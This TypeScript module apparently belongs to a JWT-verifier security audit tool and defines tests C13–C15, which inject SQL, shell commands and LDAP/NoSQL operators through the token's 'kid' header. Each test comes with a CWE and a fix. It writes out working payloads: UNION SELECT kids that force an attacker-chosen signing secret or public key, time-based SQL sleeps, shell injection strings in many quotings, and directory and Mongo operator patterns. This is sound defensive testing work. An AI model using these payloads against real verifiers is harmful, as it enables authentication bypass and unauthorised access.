import type { ForgeContext, Forgery, StagedAttack, TokenAttack, VariantResult } from '../attack.ts';
import { attackerForgery, attackerKey, macForgery } from '../attacker-forgery.ts';
import { encodeBase64, encodeHex, encodeUtf8 } from '../encoding.ts';
import { issueForgery } from '../issued-forgery.ts';
import { readPublishedKey, writePem } from '../published-key.ts';
import type { Stage } from '../stage.ts';
import { joinToken, writeInput } from '../unsafe-writer.ts';

/** Longer than a slow answer, shorter than the patience of most clients. */
const sleepSeconds = 5;

/** C13. */
export const keyIdQuery: TokenAttack = {
  kind: 'token',
  id: 'C13',
  title: 'The key id is SQL: the query answers a key of the attacker’s choosing',
  severity: 'critical',
  cwe: 89,
  source: ['RFC 8725 §3.10'],
  how: 'A verifier that keeps its keys in a database may paste the kid into the query. A quote ends the text there, and what follows is the attacker’s: a UNION that selects a secret which he wrote into the query himself, or the public half of his own key. The signature is then made with it, and holds. Where the answer is not seen, a query that sleeps shows itself by the time it takes.',
  victims: [],
  fix: 'Load keys at the start and look the kid up in a map. Where a query must be, bind the kid as a parameter, and refuse one that is longer or of other characters than your own.',
  needs: [],
  expect: 'refused-in-time',
  forge: async (context) => [
    ...(await selectedSecrets(context)),
    ...(await selectedKey(context)),
    ...named(context, sleepingQueries),
  ],
};

/** C14. */
export const keyIdCommand: TokenAttack = {
  kind: 'token',
  id: 'C14',
  title: 'The key id is a command of the shell',
  severity: 'critical',
  cwe: 78,
  source: ['RFC 8725 §3.10'],
  how: 'A verifier that calls a program to find or open its key may put the kid into the command line, and some functions that open files run a program where the name begins with a bar. The audit sends commands that do nothing but sleep, in all the quotings of the common shells, and measures how long the refusal takes.',
  victims: [],
  fix: 'Start no program to verify a token. Look the kid up in a map of keys that were loaded at the start.',
  needs: [],
  expect: 'refused-in-time',
  forge: (context) => named(context, sleepingCommands),
};

/** C15. */
export const keyIdFilter: StagedAttack = {
  kind: 'staged',
  id: 'C15',
  title: 'The key id is a pattern or an operator of the key store (LDAP, NoSQL)',
  severity: 'high',
  cwe: 943,
  source: ['RFC 8725 §3.10', 'RFC 7515 §4.1.4'],
  how: 'A directory or a document store takes patterns and operators where a program meant a name: a star finds every entry, and an object with $ne finds what is not equal. Such a kid leads to a key that nobody named, another tenant’s or a retired one. The audit signs tokens with the true key and bends the kid alone: a verifier that refuses a kid which nobody has, and takes a star, has searched by it.',
  victims: [],
  fix: 'Take a kid only if it is a text of your own alphabet, and look it up by equality. Hand no object of a token to a query.',
  needs: ['signing-key'],
  expect: 'refused',
  play: async (stage) => {
    const control = await issueForgery(stage.context, 'control', { header: { kid: 'nobody-has-this-key' } });
    const known = stage.judge('control', await stage.present({ token: control.token }));
    const results: VariantResult[] = [];
    for (const [variant, kid] of Object.entries(patterns)) {
      const forgery = await issueForgery(stage.context, variant, { header: { kid } });
      // Who takes any kid has one key and looks for none: nothing is found by a pattern there that a name would not find.
      results.push(known.verdict === 'accepted' ? await presented(stage, forgery) : await stage.fire(forgery));
    }
    return results;
  },
};

async function presented(stage: Stage, { variant, token }: Forgery): Promise<VariantResult> {
  const judged = stage.judge(variant, await stage.present({ token }));
  if (judged.verdict !== 'accepted') return judged;
  return { ...judged, verdict: 'refused', reason: 'it takes a key id that nobody has as well: none is looked up' };
}

const patterns: Readonly<Record<string, unknown>> = {
  star: '*',
  'ldap-any-entry': '*)(|(objectClass=*',
  'ldap-any-user': '*)(uid=*))(|(uid=*',
  'ldap-nul': '*)\u0000',
  'sql-like': '%',
  'sql-or': "' OR '1'='1",
  'pattern-any': '.*',
  'operator-not-equal': { $ne: null },
  'operator-greater': { $gt: '' },
  'operator-exists': { $exists: true },
  'operator-pattern': { $regex: '.*' },
  'operator-in-text': '{"$ne":null}',
  'array-of-operators': [{ $ne: null }],
};

const secret = 'chosen-by-the-query';
const quotes: Readonly<Record<string, string>> = { single: "'", double: '"', none: '', bracketed: "')" };
const columns: Readonly<Record<string, string>> = { one: 'X', two: 'X,X', three: 'X,X,X' };

/** Selects a text, and makes the MAC with it: as it stands, and as what its base64 or hexadecimal stands for. */
async function selectedSecrets(context: ForgeContext): Promise<readonly Forgery[]> {
  const forms = { text: secret, base64: encodeBase64(secret), hexadecimal: encodeHex(encodeUtf8(secret)) };
  const forgeries: Forgery[] = [];
  for (const [quoting, quote] of Object.entries(quotes)) {
    for (const [count, list] of Object.entries(columns)) {
      for (const [form, text] of Object.entries(forms)) {
        if (form !== 'text' && (quoting !== 'single' || count !== 'one')) continue;
        const kid = `0${quote} UNION SELECT ${list.replaceAll('X', `'${text}'`)}-- `;
        forgeries.push(await macForgery(context, encodeUtf8(secret), `union-${quoting}-${count}-${form}`, { kid }));
      }
    }
  }
  const key = encodeUtf8(secret);
  forgeries.push(await macForgery(context, key, 'union-hash-comment', { kid: `0' UNION SELECT '${secret}'# ` }));
  const dummy = `0' UNION SELECT '${secret}' FROM dual-- `;
  return [...forgeries, await macForgery(context, key, 'union-from-dual', { kid: dummy })];
}

/** Selects the public half of a key of the attacker, for verifiers that do not know HMAC. */
async function selectedKey(context: ForgeContext): Promise<readonly Forgery[]> {
  const alg = context.good.header['alg'];
  const key = await attackerKey(context, alg === 'EdDSA' || alg === 'ES256' ? alg : 'RS256');
  const spki = (await readPublishedKey(key.publicJwk))?.spki ?? new Uint8Array(0);
  const kid = `0' UNION SELECT '${writePem('PUBLIC KEY', spki)}'-- `;
  return [await attackerForgery(context, key, 'union-public-key', { header: { kid } })];
}

const sleepingQueries: Readonly<Record<string, string>> = {
  'sleep-postgresql': `0'; SELECT pg_sleep(${sleepSeconds})-- `,
  'sleep-postgresql-within': `0'||(SELECT CASE WHEN pg_sleep(${sleepSeconds}) IS NULL THEN '' ELSE '' END)||'`,
  // Once, and not once for each key of the table.
  'sleep-mysql': `0' OR (SELECT 1 FROM (SELECT SLEEP(${sleepSeconds})) once)-- `,
  'sleep-mysql-union': `0' UNION SELECT SLEEP(${sleepSeconds})# `,
  'sleep-sql-server': `0'; WAITFOR DELAY '0:0:${sleepSeconds}'-- `,
};

const sleepingCommands: Readonly<Record<string, string>> = {
  'bar-first': `|sleep ${sleepSeconds}`,
  'bar-after': `key|sleep ${sleepSeconds}`,
  semicolon: `key;sleep ${sleepSeconds}`,
  'semicolon-both-sides': `key;sleep ${sleepSeconds};`,
  and: `key && sleep ${sleepSeconds}`,
  or: `key || sleep ${sleepSeconds}`,
  background: `key & sleep ${sleepSeconds}`,
  substituted: `$(sleep ${sleepSeconds})`,
  'back-quoted': `\`sleep ${sleepSeconds}\``,
  'out-of-single-quotes': `';sleep ${sleepSeconds};'`,
  'out-of-double-quotes': `";sleep ${sleepSeconds};"`,
  'new-line': `key\nsleep ${sleepSeconds}\n`,
  'no-blank': `key;sleep\${IFS}${sleepSeconds}`,
  windows: `key & ping -n ${sleepSeconds + 1} 127.0.0.1`,
};

/** The good token under another kid. Its signature no longer holds, and it is not by that that it should be slow. */
function named({ good }: ForgeContext, kids: Readonly<Record<string, string>>): readonly Forgery[] {
  return Object.entries(kids).map(([variant, kid]) => {
    const token = joinToken(writeInput({ ...good.header, kid }, good.payload), good.segments[2]);
    return { variant, token, proof: { kind: 'bad-signature' } };
  });
}
